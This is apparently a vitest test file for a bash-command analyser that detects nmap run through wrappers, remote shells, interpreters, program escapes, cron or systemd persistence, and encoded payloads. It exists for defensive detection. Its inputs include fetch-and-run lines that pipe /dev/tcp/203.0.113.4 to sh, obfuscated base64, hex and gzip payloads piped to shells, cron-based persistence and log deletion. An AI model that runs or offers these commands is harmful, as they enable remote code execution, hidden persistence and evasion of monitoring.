import { gzipSync } from 'node:zlib';
import { describe, expect, it } from 'vitest';
import { base64, bash, commands, files, lineage, processOf } from './support.ts';

describe('a program that runs another', () => {
  it.each([
    ['sudo nmap x', ['sudo', 'nmap']],
    ['sudo -E -u root -- nmap x', ['sudo', 'nmap']],
    ['sudo A=1 nmap x', ['sudo', 'nmap']],
    ['doas -u op nmap x', ['doas', 'nmap']],
    ['pkexec nmap x', ['pkexec', 'nmap']],
    ['su -c "nmap x"', ['su', 'nmap']],
    ["su - op -c 'nmap x'", ['su', 'nmap']],
    ["runuser -l op -c 'nmap x'", ['runuser', 'nmap']],
    ['env -i -u B A=1 nmap x', ['env', 'nmap']],
    ["env -S 'nmap x'", ['env', 'nmap']],
    ['nohup nmap x', ['nohup', 'nmap']],
    ['timeout -s KILL 10 nmap x', ['timeout', 'nmap']],
    ['nice -n 19 nmap x', ['nice', 'nmap']],
    ['ionice -c3 nmap x', ['ionice', 'nmap']],
    ['setsid -w nmap x', ['setsid', 'nmap']],
    ['stdbuf -oL nmap x', ['stdbuf', 'nmap']],
    ['/usr/bin/time -v nmap x', ['/usr/bin/time', 'nmap']],
    ['exec -a kworker nmap x', ['exec', 'nmap']],
    ['xargs nmap x', ['xargs', 'nmap']],
    ['xargs -n1 -P 8 -I{} nmap {}', ['xargs', 'nmap']],
    ['find . -name x -exec nmap {} \\;', ['find', 'nmap']],
    ['find . -execdir nmap {} +', ['find', 'nmap']],
    ['find . -ok nmap {} \\;', ['find', 'nmap']],
    ['fd -x nmap', ['fd', 'nmap']],
    ["bash -c 'nmap x'", ['bash', 'nmap']],
    ["bash -lc 'nmap x'", ['bash', 'nmap']],
    ["sh -ec 'nmap x'", ['sh', 'nmap']],
    ["zsh -c 'nmap x'", ['zsh', 'nmap']],
    ["ash -c 'nmap x'", ['ash', 'nmap']],
    ['busybox nmap x', ['busybox', 'nmap']],
    ["busybox sh -c 'nmap x'", ['busybox', 'sh', 'nmap']],
    ['toybox nmap x', ['toybox', 'nmap']],
    ["watch -n 5 'nmap x'", ['watch', 'nmap']],
    ['parallel nmap ::: a b', ['parallel', 'nmap']],
    ["script -q -c 'nmap x' /dev/null", ['script', 'nmap']],
    ['systemd-run --unit x nmap h', ['systemd-run', 'nmap']],
    ["flock /tmp/l -c 'nmap x'", ['flock', 'nmap']],
    ['flock -n /tmp/l nmap x', ['flock', 'nmap']],
    ['strace -f -o t nmap x', ['strace', 'nmap']],
    ['ltrace nmap x', ['ltrace', 'nmap']],
    ['chroot /mnt nmap x', ['chroot', 'nmap']],
    ['unshare -rn nmap x', ['unshare', 'nmap']],
    ['nsenter -t 1 -m -u nmap x', ['nsenter', 'nmap']],
    ['ip netns exec a nmap x', ['ip', 'nmap']],
    ['proxychains4 -q nmap x', ['proxychains4', 'nmap']],
    ['/lib64/ld-linux-x86-64.so.2 /usr/bin/nmap x', ['/lib64/ld-linux-x86-64.so.2', '/usr/bin/nmap']],
    ['sshpass -p s ssh h nmap x', ['sshpass', 'ssh', 'nmap']],
    ['start-stop-daemon -S -x /usr/bin/nmap -- x', ['start-stop-daemon', '/usr/bin/nmap']],
    ['sudo nohup timeout 5 nice nmap x', ['sudo', 'nohup', 'timeout', 'nice', 'nmap']],
    ['sudo bash -c \'sudo bash -c "nmap x"\'', ['sudo', 'bash', 'sudo', 'bash', 'nmap']],
    ['uv run nmap x', ['uv', 'nmap']],
    ['conda run -n e nmap x', ['conda', 'nmap']],
    ['chrt -r 1 nmap x', ['chrt', 'nmap']],
    ['taskset -c 0-3 nmap x', ['taskset', 'nmap']],
    ['cgexec -g cpu:a nmap x', ['cgexec', 'nmap']],
    ['bwrap --ro-bind / / --dev /dev nmap x', ['bwrap', 'nmap']],
    ['systemd-nspawn -D /m nmap x', ['systemd-nspawn', 'nmap']],
    ['setarch x86_64 -R nmap x', ['setarch', 'nmap']],
    ['xvfb-run -a nmap x', ['xvfb-run', 'nmap']],
    ['gosu op nmap x', ['gosu', 'nmap']],
    ["capsh --drop=all -- -c 'nmap x'", ['capsh', 'nmap']],
    ["nix-shell -p a --run 'nmap x'", ['nix-shell', 'nmap']],
    ['guix shell a -- nmap x', ['guix', 'nmap']],
    ["$SHELL -c 'nmap x'", ['$SHELL', 'nmap']],
    ["bash -euo pipefail -c 'nmap x'", ['bash', 'nmap']],
    ['find . -exec sh -c \'nmap "$1"\' _ {} \\;', ['find', 'sh', 'nmap']],
    ["su -l op -c 'nmap x'", ['su', 'nmap']],
  ])('%s is the parent of it', (text, expected) => expect(lineage(bash(text), 'nmap')).toEqual(expected));

  it('says whose the process is', () => {
    expect(processOf(bash('sudo nmap x'), 'nmap').user).toBe('root');
    expect(processOf(bash('sudo -u www-data nmap x'), 'nmap').user).toBe('www-data');
    expect(processOf(bash("su - op -c 'nmap x'"), 'nmap').user).toBe('op');
    expect(processOf(bash('nmap x'), 'nmap').user).toBeUndefined();
  });

  it.each([
    ["ssh -p 22 op@198.51.100.7 'nmap x'", '198.51.100.7'],
    ['ssh op@h nmap x', 'h'],
    ["ssh op@h <<'E'\nnmap x\nE", 'h'],
    ['docker exec -it -u root web nmap x', 'web'],
    ["docker run --rm -v /:/m alpine sh -c 'nmap x'", 'alpine'],
    ['docker compose exec web nmap x', 'web'],
    ['podman run -it alpine nmap x', 'alpine'],
    ['kubectl -n a exec pod -c b -- nmap x', 'pod'],
    ['kubectl run r --image=alpine -- nmap x', 'r'],
    ['lxc exec c -- nmap x', 'c'],
    ["ansible all -m shell -a 'nmap x'", 'all'],
    ['kubectl debug node/n -it --image=a -- nmap x', 'node/n'],
    ['oc rsh pod nmap x', 'pod'],
    ['apptainer exec -B /m image.sif nmap x', 'image.sif'],
    ['incus exec c -- nmap x', 'c'],
    ["echo 'nmap x' | ssh h bash", 'h'],
  ])('%s runs it elsewhere, at %s', (text, place) =>
    expect(processOf(bash(text), 'nmap').remote).toBe(place),
  );

  it.each([
    ["tmux new-session -d -s a 'nmap x'"],
    ["tmux new -d 'nmap x'"],
    ["tmux send-keys -t a 'nmap x' Enter"],
    ["tmux send-keys -t a 'nmap x' C-m"],
    ['screen -dmS a nmap x'],
    ['nohup nmap x &'],
    ['echo nmap x | at now'],
    ["batch <<'E'\nnmap x\nE"],
    ["echo '* * * * * nmap x' | crontab -"],
    ["(crontab -l; echo '@reboot nmap x') | crontab -"],
    ['crontab - <<E\n* * * * * nmap x\nE'],
    ["echo '* * * * * root nmap x' > /etc/cron.d/a"],
    ["echo '*/5 * * * * root nmap x' | sudo tee -a /etc/crontab"],
    ["printf '#!/bin/sh\\nnmap x\\n' > /etc/cron.daily/a"],
    ['cat > /etc/systemd/system/a.service <<E\n[Service]\nExecStart=-/usr/bin/env nmap x\nE'],
    ['tmux new -s a -d bash -c "nmap x"'],
  ])('%s leaves it running', (text) => expect(processOf(bash(text), 'nmap').background).toBe(true));

  it('tells what `find` finds by its pattern', () => {
    expect(files(bash("rm -rf $(find /var/log -name '*.log')"))).toContain('delete /var/log/**/*.log');
    expect(files(bash('find / -type f | xargs rm -f'))).toContain('delete /**');
    expect(files(bash('find /srv -name a | while read -r f; do rm "$f"; done'))).toContain(
      'delete /srv/**/a',
    );
    expect(files(bash("find /srv -printf '%f\\n' | xargs rm"))).toEqual([]);
  });

  it('gives parallel its items, one after the other', () => {
    expect(commands(bash("parallel 'nmap -p 1 {}' ::: a b"))).toEqual(
      expect.arrayContaining(['nmap -p 1 a', 'nmap -p 1 b']),
    );
    expect(commands(bash('echo a | parallel nmap {}'))).toContain('nmap a');
  });

  it.each([
    ["sh -c 'cat < /dev/tcp/203.0.113.4/80 | sh -s'"],
    ['exec 3<>/dev/tcp/203.0.113.4/80; cat <&3 | sh -s'],
    ['bash -s < /dev/tcp/203.0.113.4/80'],
  ])('knows where the code comes from: %s', (text) => {
    const shell = bash(text).find((action) => action.kind === 'process' && action.argv[1] === '-s');
    expect(shell).toMatchObject({ downloaded: 'tcp://203.0.113.4:80' });
  });

  it('takes a program to be where `which` says', () => {
    for (const asked of ['$(which curl)', '$(command -v curl)', '`which curl`', '$(type -p curl)'])
      expect(files(bash(`cp ${asked} /dev/shm/.u`))).toEqual(['read /usr/bin/curl', 'create /dev/shm/.u']);
  });

  it('makes one text of what `screen -X stuff` types', () => {
    expect(commands(bash("screen -S a -X stuff $'nmap x\\n'"))).toContain('nmap x');
  });

  it('gives xargs the words that are piped in, where they are literal', () => {
    expect(commands(bash('echo 10.0.0.5 10.0.0.6 | xargs nmap -p 22'))).toContain(
      'nmap -p 22 10.0.0.5 10.0.0.6',
    );
    expect(commands(bash("printf '%s\\n' a b | xargs -I% nmap % -v"))).toContain('nmap a -v');
    expect(commands(bash('cat hosts | xargs nmap -p 22'))).toContain('nmap -p 22');
  });
});

describe('an interpreter', () => {
  it.each([
    [`python3 -c 'import os; os.system("nmap x")'`, 'python -c'],
    ["python3 <<'E'\nimport os\nos.system('nmap x')\nE", 'os.system'],
    [`echo 'import os; os.system("nmap x")' | python3 -`, '| python'],
    [`python -m timeit -s 'import os' 'os.system("nmap x")' ; perl -e 'system("nmap x")'`, 'perl -e'],
    [`perl -MPOSIX -ne 'system("nmap x")' f`, 'perl -e'],
    [`ruby -e 'system("nmap x")'`, 'ruby -e'],
    [`php -r 'system("nmap x");'`, 'php -r'],
    [`node -e 'require("child_process").exec("nmap x")'`, 'node -e'],
    [`lua -e 'os.execute("nmap x")'`, 'lua -e'],
    [`awk 'BEGIN { system("nmap x") }'`, 'awk'],
    [`awk 'BEGIN { "nmap x" | getline }'`, 'awk'],
    [`osascript -e 'do shell script "nmap x"'`, 'osascript -e'],
    [`Rscript -e 'system("nmap x")'`, 'rscript -e'],
    [`expect -c 'spawn nmap x'`, 'expect -c'],
    [`emacs --batch --eval '(shell-command "nmap x")'`, 'emacs --eval'],
    ["bash <<'E'\nnmap x\nE", '| bash'],
    ['bash -s arg <<< "nmap x"', '| bash'],
    ["cat <<'E' | sudo sh\nnmap x\nE", '| sh'],
    ['echo nmap x | bash', '| bash'],
    ['bash <(echo nmap x)', 'sh <('],
    ['. <(echo nmap x)', 'source'],
    ["eval 'nmap x'", 'eval'],
  ])('%s runs its code', (text, via) => {
    const nmap = processOf(bash(text), 'nmap');
    expect(nmap.commandLine).toBe('nmap x');
    expect(nmap.origin.via.join(' > ').toLowerCase()).toContain(via);
  });

  it('tells code from a file name', () => {
    expect(commands(bash('python3 -m pytest nmap.py'))).toEqual([
      'python3 -m pytest nmap.py',
      'pytest nmap.py',
    ]);
    expect(commands(bash('python3 nmap.py'))).toEqual(['python3 nmap.py']);
  });
});

describe('a program that is made to run a command', () => {
  it.each([
    ["vim -c ':!nmap x'"],
    ["vi +'!nmap x' f"],
    ["ed f <<'E'\n!nmap x\nE"],
    ['less f\n!nmap x'],
    ['tar cf /dev/null f --checkpoint=1 --checkpoint-action=exec="nmap x"'],
    ["tar xf a.tar --to-command='nmap x'"],
    ["git -c core.pager='nmap x' log"],
    ["git -c alias.a='!nmap x' a"],
    ["git grep --open-files-in-pager='nmap x' a"],
    ["zip a.zip f -T -TT 'nmap x'"],
    ["rsync -e 'nmap x' f h:"],
    ["ssh -o ProxyCommand='nmap x' h"],
    ["scp -o 'ProxyCommand=nmap x' f h:"],
    ["gdb -nx -ex '!nmap x' -ex quit"],
    ['gdb -batch -ex \'python import os; os.system("nmap x")\''],
    ["sed -n '1e nmap x' f"],
    ["socat - exec:'nmap x'"],
    ["nc -l 4444 -c 'nmap x'"],
    ["openvpn --config c --up 'nmap x'"],
    ["man -P 'nmap x' ls"],
    ["mysql -e '\\! nmap x'"],
    ['psql -c "\\! nmap x"'],
    ['psql -c "COPY t FROM PROGRAM \'nmap x\'"'],
    ["sqlite3 d '.shell nmap x'"],
    ["split --filter='nmap x' f"],
    ["sort --compress-program='nmap x' f"],
    ["make -f - <<'E'\nall:\n\tnmap x\nE"],
    ["rpm --eval '%(nmap x)'"],
    ["apt-get update -o APT::Update::Pre-Invoke::='nmap x'"],
    ["docker build -t a - <<'E'\nFROM alpine\nRUN nmap x\nE"],
    ['aws ssm send-command --document-name a --parameters \'commands=["nmap x"]\''],
    ["gcloud compute ssh vm --command 'nmap x'"],
    ["salt '*' cmd.run 'nmap x'"],
    ["kubectl run r --image=a --command -- sh -c 'nmap x'"],
    ["su -s /bin/sh op -c 'nmap x'"],
    ["powershell -c 'nmap x'"],
    [`powershell -enc ${Buffer.from('nmap x', 'utf16le').toString('base64')}`],
    ["cmd /c 'nmap x'"],
    ["trap 'nmap x' INT"],
    ["PROMPT_COMMAND='nmap x' bash"],
    ['!nmap x'],
  ])('%s', (text) => expect(commands(bash(text)).join('\n')).toMatch(/^nmap x$/m));

  it.each([
    ["vim -c ':set nu' nmap"],
    ["git -c user.name='nmap x' commit"],
    ['ssh -o StrictHostKeyChecking=no h'],
    ['tar czf nmap.tgz nmap'],
    ["gdb -ex 'break nmap' prog"],
    ["mysql -e 'select 1'"],
    ["sed 's/e/nmap x/' f"],
    ['rsync -a nmap h:'],
    ['kubectl get pods nmap'],
    ['docker run nmap'],
    ['tmux kill-session -t nmap'],
    ["tmux send-keys -t a 'nmap x'".replace('nmap x', 'C-c')],
    ['make nmap'],
    ['npm run nmap'],
  ])('%s runs none', (text) => {
    const images = bash(text).flatMap((action) => (action.kind === 'process' ? [action.image] : []));
    expect(images.filter((image) => image.endsWith('/nmap'))).toEqual([]);
  });
});

describe('payloads', () => {
  const line = 'nmap -sS 10.0.0.5';
  const rot13 = (text: string): string =>
    text.replace(/[a-z]/gi, (letter) => {
      const base = letter <= 'Z' ? 65 : 97;
      return String.fromCharCode(((letter.charCodeAt(0) - base + 13) % 26) + base);
    });

  it.each([
    [`echo ${base64(line)} | base64 -d | sh`, 'base64'],
    [`echo ${base64(line)} | base64 --decode | sudo bash`, 'base64'],
    [`base64 -D <<< ${base64(line)} | sh`, 'base64'],
    [`bash -c "$(echo ${base64(line)} | base64 -d)"`, 'base64'],
    [`eval $(base64 -d <<< ${base64(line)})`, 'base64'],
    [`echo ${base64(line)} | openssl enc -d -base64 | sh`, 'base64'],
    [`echo ${base64(line)} | openssl base64 -d -A | sh`, 'base64'],
    [`python3 -c "import os,base64; os.system(base64.b64decode('${base64(line)}').decode())"`, 'python -c'],
    [`echo ${Buffer.from(line).toString('hex')} | xxd -r -p | sh`, 'hex'],
    [`printf '${[...line].map((c) => `\\x${c.charCodeAt(0).toString(16)}`).join('')}' | sh`, 'sh'],
    [`echo -e '${[...line].map((c) => `\\0${c.charCodeAt(0).toString(8)}`).join('')}' | sh`, 'sh'],
    [`echo '${[...line].reverse().join('')}' | rev | sh`, 'rev'],
    [`echo '${rot13(line)}' | tr 'A-Za-z' 'N-ZA-Mn-za-m' | sh`, 'tr'],
    [`echo '${line.replaceAll('n', '@')}' | tr @ n | sh`, 'tr'],
    [`echo 'X${line}X' | tr -d X | sh`, 'tr'],
    [`echo 'no ${line}' | sed 's/^no //' | sh`, 'sed'],
    [`echo ${base64(base64(line))} | base64 -d | base64 -d | sh`, 'base64'],
    [`printf %s%s '${line.slice(0, 2)}' '${line.slice(2)}' | sh`, 'sh'],
    [`A=${base64(line).slice(0, 9)}; B=${base64(line).slice(9)}; echo $A$B | base64 -d | sh`, 'base64'],
  ])('%s', (text, via) => {
    const nmap = processOf(bash(text), 'nmap');
    expect(nmap.commandLine).toBe(line);
    expect(nmap.origin.via.join(' ')).toContain(via);
    const [start, end] = nmap.origin.span;
    expect(end).toBeGreaterThan(start);
    expect(end).toBeLessThanOrEqual(text.length);
  });

  it('undoes what was compressed', () => {
    const packed = gzipSync(line).toString('base64');
    for (const unpack of ['gunzip', 'zcat', 'gzip -dc']) {
      const nmap = processOf(bash(`echo ${packed} | base64 -d | ${unpack} | sh`), 'nmap');
      expect(nmap.commandLine).toBe(line);
      expect(nmap.origin.via).toEqual(expect.arrayContaining(['base64', 'gzip']));
    }
  });

  it('does not run what is only decoded', () => {
    expect(commands(bash(`echo ${base64(line)} | base64 -d`)).some((each) => each.startsWith('nmap'))).toBe(
      false,
    );
    expect(
      commands(bash(`x=$(echo ${base64(line)} | base64 -d)`)).some((each) => each.startsWith('nmap')),
    ).toBe(false);
  });

  it('goes only so deep', () => {
    let packed = 'nmap x';
    for (let depth = 0; depth < 12; depth += 1) packed = `echo ${base64(packed)} | base64 -d | sh`;
    expect(commands(bash(packed))).not.toContain('nmap x');
    expect(commands(bash(packed))).toContain('sh');
  });
});
